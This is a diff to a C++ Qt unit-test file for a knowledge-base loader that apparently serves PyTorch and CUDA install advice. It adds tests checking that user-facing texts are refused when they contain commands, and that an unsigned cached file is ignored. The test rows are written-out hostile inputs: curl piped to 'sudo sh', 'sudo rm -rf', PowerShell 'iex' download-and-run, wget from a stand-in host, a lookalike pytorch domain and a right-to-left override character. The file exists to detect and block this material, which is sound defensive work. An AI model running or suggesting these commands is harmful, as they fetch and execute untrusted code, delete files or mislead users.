@@ -1,6 +1,7 @@
 // The knowledge base loader: the embedded file, and files that are broken, truncated, of
-// another schema, or older than the embedded one.
+// another schema, older than the embedded one, unsigned in the cache, or with commands in their texts.
 #include <core/kb/kbstore.h>
+#include <core/kb/kbtext.h>
 #include <core/kb/knowledgebase.h>
 
 #include <nlohmann/json.hpp>
@@ -53,7 +54,9 @@ private slots:
     void broken();
     void truncated();
     void notJsonAtAll();
-    void cacheNewerWins();
+    void prose_data();
+    void prose();
+    void cacheWithoutSignatureIsIgnored();
     void cacheOlderOrBrokenIsIgnored();
 };
 
@@ -110,6 +113,20 @@ void TestKnowledgeBase::broken_data()
                                             << "\"schema_version\" is missing";
     QTest::newRow("bad date") << Mutation([](json &d) { d["data_date"] = "November"; }) << "/data_date"
                               << "date";
+    QTest::newRow("no such day") << Mutation([](json &d) { d["data_date"] = "2026-02-31"; }) << "/data_date"
+                                 << "date";
+    QTest::newRow("a command in a text") << Mutation([](json &d) {
+        d["texts"]["route.pip"]["en"] = "Before installing, run: curl -fsSL https://example.com/fix.sh | sudo sh";
+    }) << "/texts/route.pip/en"
+                                         << "\"curl\" reads like part of a command";
+    QTest::newRow("a command in the Chinese text")
+        << Mutation([](json &d) { d["texts"]["note.three_cudas"]["zh_CN"] = "安装前请先运行sudo rm -rf /tmp/x"; })
+        << "/texts/note.three_cudas/zh_CN"
+        << "\"sudo\"";
+    QTest::newRow("a command in a GPU's examples")
+        << Mutation([](json &d) { d["gpu_architectures"][0]["examples"] = "GeForce GTX 980 (run `iex (irm x)`)"; })
+        << "/gpu_architectures/0/examples"
+        << "\"`\"";
     QTest::newRow("release without cpu build")
         << Mutation([](json &d) { d["torch_releases"][0]["pip"].erase(3); }) << "/torch_releases/0/pip:"
         << "cpu";
@@ -204,15 +221,70 @@ void TestKnowledgeBase::notJsonAtAll()
     QVERIFY(missing.error().message.contains(QStringLiteral("/nonexistent/kb.json")));
 }
 
-void TestKnowledgeBase::cacheNewerWins()
+// What a text shown to users may hold (KbText): the embedded file's own phrasing passes, commands do not.
+void TestKnowledgeBase::prose_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("refusal"); // empty: accepted
+    QTest::newRow("plain prose") << "PyTorch wheels bring their own CUDA runtime (inside the wheel, or as nvidia-* "
+                                    "packages that pip installs automatically); only a driver is needed."
+                                 << "";
+    QTest::newRow("a link to the PyTorch index, with a placeholder")
+        << "the PyTorch package index (https://download.pytorch.org/whl/<variant>, for example cu126)"
+        << "";
+    QTest::newRow("conda channels named in prose") << "the pytorch-cuda package with -c pytorch -c nvidia"
+                                                   << "";
+    QTest::newRow("Chinese prose") << "只需要足够新的 NVIDIA 驱动。nvcc --version 显示的是 CUDA Toolkit"
+                                   << "";
+    QTest::newRow("curl piped to sudo sh") << "Before installing, run: curl -fsSL https://example.com/fix.sh | sudo sh"
+                                           << "curl";
+    QTest::newRow("command substitution") << "Set the path to $(python -c 'import sys')"
+                                          << "$";
+    QTest::newRow("backticks") << "Run `whoami` first"
+                               << "`";
+    QTest::newRow("chained commands") << "Then type: cd /tmp && make"
+                                      << "&&";
+    QTest::newRow("PowerShell download and run") << "Open PowerShell and type iex (iwr https://x.example/a)"
+                                                 << "PowerShell";
+    QTest::newRow("an install command") << "First do pip install evil-package"
+                                        << "pip install";
+    QTest::newRow("conda create") << "Use conda create -n x python"
+                                  << "conda create";
+    QTest::newRow("a command right after Chinese text") << "请先运行wget http://x.example/a"
+                                                        << "wget";
+    QTest::newRow("a link to an unknown site") << "See https://pytorch.org.evil.example/fix for help"
+                                               << "pytorch.org.evil.example";
+    QTest::newRow("a plain http link") << "See http://download.pytorch.org/whl/cu126"
+                                       << "http://";
+    QTest::newRow("a direction override") << QStringLiteral("harmless \u202E hs.xif") << "U+202E";
+    QTest::newRow("a newline") << "first line\nsecond line"
+                               << "U+000A";
+}
+
+void TestKnowledgeBase::prose()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, refusal);
+    const std::optional<QString> problem = KbText::problem(text);
+    if (refusal.isEmpty()) {
+        QVERIFY2(!problem, qPrintable(problem.value_or(QString())));
+        return;
+    }
+    QVERIFY(problem.has_value());
+    QVERIFY2(problem->contains(refusal, Qt::CaseInsensitive), qPrintable(*problem));
+}
+
+// A newer file in the cache without its publisher's signature beside it (an older version of the program wrote
+// it, or someone edited it on disk) is not used; tst_kbupdater covers signed caches.
+void TestKnowledgeBase::cacheWithoutSignatureIsIgnored()
 {
     QTemporaryDir dir;
     const Result<KnowledgeBase> embedded = KnowledgeBase::embedded();
     QVERIFY(embedded.ok());
     writeFile(KnowledgeBaseStore::cachedFile(dir.path()), mutated([](json &d) { d["data_date"] = "2099-01-01"; }));
-    const Result<KnowledgeBase> best = KnowledgeBaseStore::best(dir.path());
-    QVERIFY(best.ok());
-    QCOMPARE(best->dataDate, QStringLiteral("2099-01-01"));
+    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
+    writeFile(KnowledgeBaseStore::cachedSignature(dir.path()), QByteArray(88, 'A') + '\n');
+    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
 }
 
 void TestKnowledgeBase::cacheOlderOrBrokenIsIgnored()
